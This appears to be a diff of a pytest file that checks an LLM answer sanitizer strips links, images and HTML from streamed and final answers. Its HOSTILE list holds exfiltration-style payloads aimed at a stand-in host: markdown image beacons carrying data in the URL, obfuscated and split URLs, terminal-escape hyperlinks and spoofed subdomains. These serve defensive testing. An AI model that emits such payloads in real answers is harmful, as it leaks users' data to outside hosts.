@@ -1,7 +1,8 @@
 """No link, image or HTML is left in an answer, nor while it is written."""
 
 import random
-from collections.abc import Callable, Iterator
+import re
+from collections.abc import Callable, Iterator, Sequence
 from typing import Any
 
 import pytest
@@ -12,8 +13,9 @@ from markdown_it import MarkdownIt
 from pydantic import Field
 
 from llm.answer import Answer, AnswerModel, Question, Text, answer
+from llm.prompts import REFUSAL, UNSUPPORTED
 
-SOURCES = ["报修请访问 https://it.example.com/help?id=3。", "Write to it@example.com, or call us."]
+SOURCES = ["报修请访问 https://it.example.com/help?id=3。", "Mail: it@example.com, or call us."]
 
 HOSTILE = [
     "![x](https://evil.example/?d=600)",
@@ -40,6 +42,7 @@ HOSTILE = [
     "<!-- <img src=x> -->",
     "ht<b>tps://evil.example",
     "https:\u200b//evil.example",
+    "https:<b >//evil.example",
     "![x](htt<b></b>ps://evil.example)",
     "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
     "https://it.example.com.evil.example/help?id=3",
@@ -50,12 +53,15 @@ HOSTILE = [
     "<img src=https://evil.example",
 ]
 LIVE = MarkdownIt("commonmark", {"html": True})
+MARKS = re.compile(
+    r"\s*\[\d\]|" + "|".join(map(re.escape, (*UNSUPPORTED.values(), *REFUSAL.values())))
+)
 Write = Callable[..., tuple[list[str], str]]
 
 
 @pytest.fixture
 def write(scripted_chat: Any) -> Write:
-    """Have a model write a text, cut into pieces; return what is streamed and what is answered.
+    """Have a model write a text, cut into pieces; return what is shown and what is answered.
 
     It need not be borne out, so that nothing is missing because no passage says it.
     """
@@ -67,13 +73,14 @@ def write(scripted_chat: Any) -> Write:
             for piece in self.pieces:
                 yield ChatGenerationChunk(message=AIMessageChunk(content=piece))
 
-    def make(*pieces: str) -> tuple[list[str], str]:
-        passages = [Document(page_content=text) for text in SOURCES]
+    def make(*pieces: str, sources: Sequence[str] = SOURCES) -> tuple[list[str], str]:
+        passages = [Document(page_content=text) for text in sources]
         model = AnswerModel(Pieces(pieces=pieces), 4096, 200, strict=False)
-        *parts, last = answer(Question("Who?", "en", passages), model)
+        *parts, last = answer(Question("谁知道？", "zh", passages), model)
         assert isinstance(last, Answer)
         streamed = [part.text for part in parts if isinstance(part, Text)]
         assert len(streamed) == len(parts)
+        assert not streamed or "".join(streamed) == last.answer
         return streamed, last.answer
 
     return make
@@ -107,7 +114,7 @@ def test_nor_is_it_while_it_is_written(write: Write, text: str, seed: int) -> No
     streamed, answered = write(*pieces)
     for end in range(len(streamed)):
         assert "evil.example/" not in "".join(streamed[: end + 1])
-    assert "".join(streamed).startswith("上限是600元[1]。")
+    assert streamed[0].startswith("上限是600元")
     assert not live("".join(streamed))
     assert "evil.example" not in answered
 
@@ -115,22 +122,18 @@ def test_nor_is_it_while_it_is_written(write: Write, text: str, seed: int) -> No
 @pytest.mark.parametrize(
     "text",
     [
-        "上限是600元[1][2]，见第3页（附表）。",
-        "# Title\n\n- **600** per night [1]\n- `kb remove <doc>`\n\n| a | b |\n|---|---|",
+        "上限是600元，见第3页（附表）。",
+        "# Title\n\n- **600** per night\n- `kb remove <doc>`\n\n| a | b |\n|---|---|\n| 1 | 2 |",
         "if a < b and c > d, then a <b and c> d; 1<2",
         "The data: 5, the ratio is 3:4, at 10:30. e.g. and/or, 1/2, i.e.",
         "![ is no image, [ no link, (1) a list",
-        "数据：见表[1]：600元",
+        "数据：见表：600元",
     ],
 )
 def test_other_text_is_left_as_it_is(write: Write, text: str) -> None:
-    assert "".join(write(text)[0]) == text
-    assert "".join(write(*text)[0]) == text
-
-
-def test_chinese_is_shown_at_once_and_english_word_for_word(write: Write) -> None:
-    assert write(*"上限600元[1]。")[0] == ["上", "限", "600元", "[1]。"]
-    assert write("It", " is", " 600.")[0] == ["It ", "is ", "600."]
+    for pieces in ([text], text):
+        shown = "".join(write(*pieces, sources=[text])[0])
+        assert re.sub(r" ?\[\d\]", "", shown) == text
 
 
 @pytest.mark.parametrize(
@@ -145,10 +148,23 @@ def test_chinese_is_shown_at_once_and_english_word_for_word(write: Write) -> Non
         ("[it@example.com](mailto:it@example.com)", "it@example.com"),
         ("见 https://it.example.com/help。", "见 。"),
         # a remark behind a citation is no link to it
-        ("600元[1](2024年版)。", "600元[1] (2024年版)。"),
-        ("600元[1](https://evil.example)。", "600元[1]。"),
-        ("[1]: 600元", "[1] 600元"),
+        ("600元[1](2024年版)。", "600元 (2024年版)。"),
+        ("600元[1](https://evil.example)。", "600元。"),
+        ("[1]: 600元", "600元"),
     ],
 )
 def test_an_address_of_the_sources_stays_as_text(write: Write, written: str, left: str) -> None:
-    assert "".join(write(written)[0]) == left
+    assert MARKS.sub("", "".join(write(written)[0])).strip() == left
+
+
+@pytest.mark.parametrize(
+    ("link", "left"),
+    [
+        ("[it@example.com](mailto:it@example.com)", "it@example.com"),
+        ("[example.com/help](https://example.com/help)", "example.com/help"),
+        ("[the desk](https://example.com/help)", "the desk (https://example.com/help)"),
+    ],
+)
+def test_an_address_is_not_written_twice(write: Write, link: str, left: str) -> None:
+    parts, _ = write(f"Ask {link} now.", sources=[f"Ask {link} now."])
+    assert MARKS.sub("", "".join(parts)).strip() == f"Ask {left} now."
